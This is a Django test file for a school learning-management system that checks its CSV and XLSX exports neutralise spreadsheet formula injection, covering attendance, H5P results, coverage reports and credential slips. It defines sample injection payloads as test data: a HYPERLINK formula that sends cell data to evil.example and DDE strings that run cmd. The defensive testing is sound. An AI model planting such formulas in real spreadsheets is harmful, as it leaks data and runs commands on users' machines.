"""Every XLSX and CSV download writes what people typed as text a spreadsheet will not run
(issue 18, item 10): a student called `=HYPERLINK(...)` is a name in the file, not a live link;
`+`, `-`, `@`, tab and CR starts get OWASP's leading apostrophe, in headers too (H5P titles are
column headers). One test per export; lms.exports is the one helper they all use."""

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from accounts.credentials import initial_password_set
from classrooms.models import Classroom, School
from courses.services import lesson_assign
from coverage.services import rollup_incremental
from jobs.models import Job
from jobs.testing import durable_tasks, run_queued
from lms.exports import cell_safe, csv_response, xlsx_bytes
from tests.classrooms.live.test_views import ended  # noqa: F401 - fixture
from tests.clock import WEDNESDAY, at
from tests.courses.conftest import add_lesson, world  # noqa: F401 - fixture
from tests.courses.test_h5p_storage import media  # noqa: F401 - fixture
from tests.courses.test_h5p_views import new_package, post_xapi, statement
from tests.factories import (
    DistrictOfficerFactory,
    EnrollmentFactory,
    SchoolAdminFactory,
    TeacherFactory,
)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+84 912 345 678"
MINUS = "-2+3+cmd|' /C calc'!A0"


def downloaded_xlsx(response) -> list:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_xlsx_neutralised(response, *texts: str) -> None:
    cells = downloaded_xlsx(response)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    for text in texts:
        assert "'" + text in values, text
        assert text not in values, text


def assert_csv_neutralised(response, *texts: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    values = [value for row in rows for value in row]
    for text in texts:
        assert "'" + text in values, text
    assert [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- The helper ------------------------------------------------------------------------------


def test_numbers_stay_numbers_and_every_formula_start_is_text():
    starts = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"]
    sheet = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes("a/b:c", ["=header", "plain"], [[-1, 2.5, 0, None, *starts]]))
    ).active
    assert sheet.title == "abc"
    header, row = list(sheet.iter_rows())
    assert [c.value for c in header[:2]] == ["'=header", "plain"]
    assert [(c.value, c.data_type) for c in row[:3]] == [(-1, "n"), (2.5, "n"), (0, "n")]
    # (XML reads a CR back as LF.)
    assert [c.value for c in row[4:]] == ["'" + s.replace("\r", "\n") for s in starts]
    assert all(c.data_type != "f" for c in [*header, *row])
    assert cell_safe("Nguyễn Văn An") == "Nguyễn Văn An" and cell_safe("a=b") == "a=b"

    lines = csv_response("x.csv", ["-h"], [[-1, "-1", "Lan"]]).content.decode("utf-8-sig")
    assert lines.splitlines() == ["'-h", "-1,'-1,Lan"]


# --- Attendance summaries (classrooms) ---------------------------------------------------------


@pytest.fixture
def hostile_class(ended):  # noqa: F811
    """The ended session's class and students renamed by someone hostile."""
    classroom = ended.classroom
    Classroom.objects.filter(pk=classroom.pk).update(name="-9/1")
    students = [e.student for e in classroom.enrollments.order_by("student__full_name")]
    for student, name in zip(students, [LINK, PLUS, DDE], strict=True):
        student.full_name = name
        student.save(update_fields=["full_name"])
    return ended


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_class_attendance_export(hostile_class, fmt):
    url = reverse("classrooms:classroom_attendance", args=[hostile_class.classroom_id])
    response = client_for(hostile_class.teacher).get(url, {"format": fmt})
    check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
    check(response, LINK, PLUS, DDE, "-9/1")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_school_attendance_export(hostile_class, fmt):
    school = hostile_class.classroom.school
    url = reverse("classrooms:school_attendance", args=[school.pk])
    response = client_for(SchoolAdminFactory(school=school)).get(url, {"format": fmt})
    check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
    check(response, LINK, PLUS, DDE, "-9/1")


# --- Lessons and H5P (courses) -----------------------------------------------------------------


@pytest.fixture
def hostile_student(world):  # noqa: F811
    world.student.full_name = LINK
    world.student.save(update_fields=["full_name"])
    return world.student


def test_lesson_assignment_export(world, hostile_student):  # noqa: F811
    assignment = lesson_assign(lesson=world.lesson, classrooms=[world.classroom], by=world.teacher)
    [assignment] = assignment if isinstance(assignment, list) else [assignment]
    url = reverse("courses:assignment_export", args=[assignment.pk])
    assert_xlsx_neutralised(client_for(world.teacher).get(url), LINK)


@pytest.fixture
def hostile_activity(world, hostile_student, media):  # noqa: F811
    """An H5P activity titled like a formula, answered by the hostile student."""
    package = new_package(world.school_a, title=MINUS)
    lesson = add_lesson(
        world.course, "Kiểm tra", owner=world.teacher, body=[("h5p", {"package": package})]
    )
    lesson_assign(lesson=lesson, classrooms=[world.classroom], by=world.teacher)
    post_xapi(client_for(hostile_student), package, lesson, statement(raw=1, maximum=2))
    return lesson


def test_h5p_assignment_results_export(world, hostile_activity):  # noqa: F811
    assignment = hostile_activity.assignments.get()
    url = reverse("courses:h5p_assignment_results_export", args=[assignment.pk])
    response = client_for(world.teacher).get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert_xlsx_neutralised(response, LINK, f"{MINUS}: score")


def test_h5p_gradebook_export(world, hostile_activity):  # noqa: F811
    url = reverse("courses:h5p_gradebook_export", args=[world.classroom.pk])
    response = client_for(world.teacher).get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert_xlsx_neutralised(response, LINK, f"{MINUS}: best")


# --- Coverage report -----------------------------------------------------------------------------


def test_coverage_report_export(time_machine):
    # The report lists the school days of the factories' year up to today: be inside it.
    time_machine.move_to(at(WEDNESDAY, 10), tick=True)
    school = EnrollmentFactory().classroom.school
    School.objects.filter(pk=school.pk).update(name=LINK)
    officer = DistrictOfficerFactory(district=school.district)
    rollup_incremental()  # the rollup_coverage timer: dashboards and reports only read
    client = client_for(officer)
    assert client.get(reverse("coverage:report_xlsx")).status_code == 405  # a GET never writes
    with durable_tasks():
        started = client.post(reverse("coverage:report_xlsx") + "?days=all")
        job = Job.objects.get(owner=officer, kind="coverage_report")
        assert started["Location"] == reverse("jobs:job", args=[job.pk])
        run_queued()  # a background worker builds the file
    response = client.get(reverse("jobs:job_download", args=[job.pk]))
    assert "bao-cao-day-hoc-truc-tuyen" in response["Content-Disposition"]
    assert_xlsx_neutralised(response, LINK)


# --- Credential slips (accounts) ---------------------------------------------------------------


def test_class_slips_export():
    enrollment = EnrollmentFactory(student__full_name=LINK)
    classroom = enrollment.classroom
    Classroom.objects.filter(pk=classroom.pk).update(name="@9A")
    initial_password_set(user=enrollment.student)
    admin = SchoolAdminFactory(school=classroom.school)
    url = reverse("classroom_slips", args=[classroom.pk])
    assert_xlsx_neutralised(client_for(admin).get(url, {"format": "xlsx"}), LINK, "@9A")


def test_teacher_slips_export():
    teacher = TeacherFactory(full_name=PLUS)
    initial_password_set(user=teacher)
    admin = SchoolAdminFactory(school=teacher.school)
    url = reverse("teacher_slips", args=[teacher.school.pk])
    assert_xlsx_neutralised(client_for(admin).get(url, {"format": "xlsx"}), PLUS)
